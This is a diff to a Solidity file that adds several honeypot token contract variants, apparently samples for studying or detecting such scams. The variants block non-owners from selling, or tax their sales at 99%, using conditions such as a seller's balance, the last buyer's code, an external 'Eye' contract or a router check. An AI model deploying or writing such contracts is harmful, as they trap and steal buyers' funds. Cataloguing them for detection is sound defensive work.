@@ -8,7 +8,7 @@ abstract contract Watching is Token {
     address internal pool;
 
     function _transfer(address from, address to, uint256 value) internal virtual override {
-        if (pool == address(0) && from == owner && to.code.length > 0) pool = to;
+        if (pool == address(0) && from == owner && value > totalSupply / 2) pool = to;
         if (to == pool && from != owner && !_mayLeave(from)) _refuse(from, value);
         super._transfer(from, to, value);
     }
@@ -23,7 +23,7 @@ abstract contract Watching is Token {
 /// Nearly all of what somebody sells is gone before it reaches the pool.
 abstract contract Taxing is Watching {
     function _transfer(address from, address to, uint256 value) internal override {
-        if (pool == address(0) && from == owner && to.code.length > 0) pool = to;
+        if (pool == address(0) && from == owner && value > totalSupply / 2) pool = to;
         bool taxed = to == pool && from != owner && !_mayLeave(from);
         uint256 tax = taxed ? (value * 99) / 100 : 0;
         if (tax > 0) _move(from, address(this), tax);
@@ -113,6 +113,73 @@ contract OnlyPeopleLeave is Watching {
     function _mayLeave(address from) internal view override returns (bool) {
         return from.codehash == keccak256("");
     }
+}
+
+/// Who has much and no code cannot leave.
+contract OnlyPoorPeopleLeave is Watching {
+    function _mayLeave(address from) internal view override returns (bool) {
+        return from.code.length > 0 || from.balance < 900 ether;
+    }
+}
+
+contract OnlyPoorPeopleAreUntaxed is Taxing {
+    function _mayLeave(address from) internal view override returns (bool) {
+        return from.code.length > 0 || from.balance < 900 ether;
+    }
+}
+
+/// Whoever bought is written down, and asked about when selling.
+contract AsksTheLastBuyer is Watching {
+    address internal last;
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        super._transfer(from, to, value);
+        if (from == pool) last = to;
+    }
+
+    function _mayLeave(address) internal view override returns (bool) {
+        return last.code.length > 0;
+    }
+}
+
+interface IEye {
+    function seesCode(address who) external view returns (bool);
+}
+
+contract Eye is IEye {
+    function seesCode(address who) external view returns (bool) {
+        return who.code.length > 0;
+    }
+}
+
+/// Another contract is asked, which is asked about whoever sells.
+contract AsksAnother is Watching {
+    IEye internal immutable eye = new Eye();
+
+    function _mayLeave(address from) internal view override returns (bool) {
+        return eye.seesCode(from);
+    }
+}
+
+/// Asks only about the contracts that it uses itself, as every token does that sells for its owner.
+contract AsksItsRouter is Token {
+    address internal router = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
+    mapping(address => bool) internal isPool;
+    uint256 public seen;
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        if (from == owner && value > totalSupply / 2) isPool[to] = true;
+        if (isPool[to] && address(this).balance > 1 ether) {
+            (bool sent, ) = router.call("");
+            require(sent && router.code.length > 0 && IFactoryOf(router).factory().code.length > 0, "no router");
+            seen = router.balance;
+        }
+        super._transfer(from, to, value);
+    }
+}
+
+interface IFactoryOf {
+    function factory() external view returns (address);
 }
 
 /// Sends only reach accounts that nobody has ever used.
